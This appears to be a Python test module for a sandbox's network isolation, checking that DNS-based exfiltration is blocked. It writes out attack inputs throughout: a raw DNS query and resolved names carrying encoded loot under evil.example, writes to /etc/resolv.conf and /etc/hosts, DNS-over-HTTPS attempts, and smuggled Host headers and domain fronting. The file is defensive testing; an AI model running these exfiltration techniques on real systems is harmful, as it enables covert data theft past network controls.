"""Attacks by way of names: nothing is resolved inside, and outside only what is allowed."""

from __future__ import annotations

from tests.attacks.mark import attack
from tests.attacks.rig import Rig, connect, get, status

LOOT = "c2VjcmV0LXNlY3JldA"
"""What an attacker would like to carry out in a name."""

QUERY = rf"b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\x12{LOOT}\x04evil\x07example\0\0\1\0\1'"

SERVERS = ("8.8.8.8", "1.1.1.1", "127.0.0.11", "127.0.0.53", "172.17.0.1")


@attack(
    "DNS",
    "ask name servers over UDP, public ones and the engine's 127.0.0.11",
    "no route, or silence on loopback; no server is there to answer",
)
async def test_no_name_server_can_be_asked_over_udp(closed: Rig) -> None:
    code = f"""
def asked(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5); s.connect((host, 53)); s.send({QUERY}); s.recv(512)
say({{host: attempt(lambda: asked(host)) for host in {SERVERS!r}}})
"""
    with closed.watched() as seen:
        answers = await closed.python(code)
    assert set(answers.values()) <= {"ENETUNREACH", "ECONNREFUSED"}, answers
    assert seen.nothing_left


@attack(
    "DNS",
    "ask name servers over TCP",
    "no route, or refused on loopback",
)
async def test_no_name_server_can_be_asked_over_tcp(closed: Rig) -> None:
    answers = await closed.tries(*(f"lambda: tcp({server!r}, 53)" for server in SERVERS))
    assert set(answers.values()) <= {"ENETUNREACH", "ECONNREFUSED"}, answers


@attack(
    "DNS",
    "carry data out in a name that the system resolves",
    "getaddrinfo fails at once; no resolver outside is asked",
)
async def test_the_system_resolves_nothing(web: Rig) -> None:
    code = f"""
def resolved(name):
    try:
        socket.getaddrinfo(name, 80)
        return True
    except socket.gaierror:
        return False
say([resolved(n) for n in ("{LOOT}.evil.example", "web.example", "host.docker.internal")])
"""
    with web.watched() as seen:
        assert await web.python(code) == [False, False, False]
    assert seen.nothing_left


@attack(
    "DNS",
    "name another server in /etc/resolv.conf, /etc/hosts or nsswitch.conf",
    "EROFS or EACCES; the files are as they were",
)
async def test_the_resolver_cannot_be_set_up_anew(closed: Rig) -> None:
    before = await closed.sh("cat /etc/resolv.conf /etc/hosts /etc/nsswitch.conf | cksum")
    answers = await closed.tries(
        "lambda: open('/etc/resolv.conf', 'w')",
        "lambda: open('/etc/hosts', 'a')",
        "lambda: open('/etc/nsswitch.conf', 'a')",
        "lambda: os.rename('/etc/hosts', '/etc/hosts2')",
        "c('mount', b'/tmp', b'/etc', None, 4096, None)",
    )
    assert set(answers.values()) <= {"EROFS", "EACCES", "EPERM", "EBUSY"}, answers
    assert await closed.sh("cat /etc/resolv.conf /etc/hosts /etc/nsswitch.conf | cksum") == before


@attack(
    "DNS",
    "carry data out in a name that the proxy would resolve",
    "403 before anything is resolved; the resolver is not asked, the name is in the record",
)
async def test_a_denied_name_is_never_resolved(web: Rig) -> None:
    name = f"{LOOT.lower()}.evil.example"
    with web.watched() as seen:
        answers = await web.ask([get(f"http://{name}/"), connect(f"{name}:443")])
    assert [status(answer) for answer in answers] == [403, 403]
    assert seen.nothing_left
    assert seen.denied == [name, name]
    assert f"{name}:80" in web.reach.denied_hosts


@attack(
    "DNS",
    "carry data out in names below an allowed one",
    "a rule for a name is not for what is below it: 403, not resolved",
)
async def test_names_below_an_allowed_one_are_not_resolved(web: Rig) -> None:
    name = f"{LOOT.lower()}.public.example"
    with web.watched() as seen:
        answers = await web.ask([get(f"http://{name}/"), connect(f"{name}:443")])
    assert [status(answer) for answer in answers] == [403, 403]
    assert seen.nothing_left
    assert seen.denied == [name, name]


@attack(
    "DNS",
    "ask DNS over HTTPS at public resolvers",
    "403 for names and addresses alike; nothing is connected to",
)
async def test_dns_over_https_is_a_host_like_any_other(web: Rig) -> None:
    targets = ("dns.google:443", "cloudflare-dns.com:443", "1.1.1.1:443", "8.8.8.8:443")
    with web.watched() as seen:
        answers = await web.ask([connect(target) for target in targets])
    assert {status(answer) for answer in answers} == {403}
    assert seen.nothing_left
    assert seen.denied == [target.removesuffix(":443") for target in targets]


@attack(
    "DNS",
    "smuggle a name in the Host header of an allowed request",
    "the header is written anew: the allowed host sees its own name, no other is resolved",
)
async def test_the_host_header_is_ours(web: Rig) -> None:
    at = f"web.example:{web.canary.port}"
    request = f"GET http://{at}/ HTTP/1.1\r\nHost: {LOOT}.evil.example\r\n\r\n".encode()
    with web.watched() as seen:
        (answer,) = await web.ask(request)
    assert status(answer) == 200
    (head,) = seen.heard
    assert f"host: {at}\r\n".encode() in head.lower()
    assert LOOT.encode() not in head
    assert seen.asked == ["web.example"]


@attack(
    "DNS",
    "smuggle a name as SNI or Host inside a tunnel (domain fronting)",
    "not defended inside the tunnel, and told so: the bytes reach the allowed host and no other",
)
async def test_what_is_said_in_a_tunnel_reaches_the_allowed_host_only(web: Rig) -> None:
    at = f"web.example:{web.canary.port}"
    inside = b"GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
    code = f"say(base64.b64encode(ask(8081, {connect(at) + inside!r}, half_close=True)).decode())"
    with web.watched() as seen:
        await web.python(code)
    assert (seen.asked, seen.passed) == (["web.example"], ["web.example"])
    assert seen.heard == [inside]
    (event,) = [event for event in seen.events if event.kind == "egress"]
    assert (event.data["host"], event.data["method"]) == ("web.example", "CONNECT")
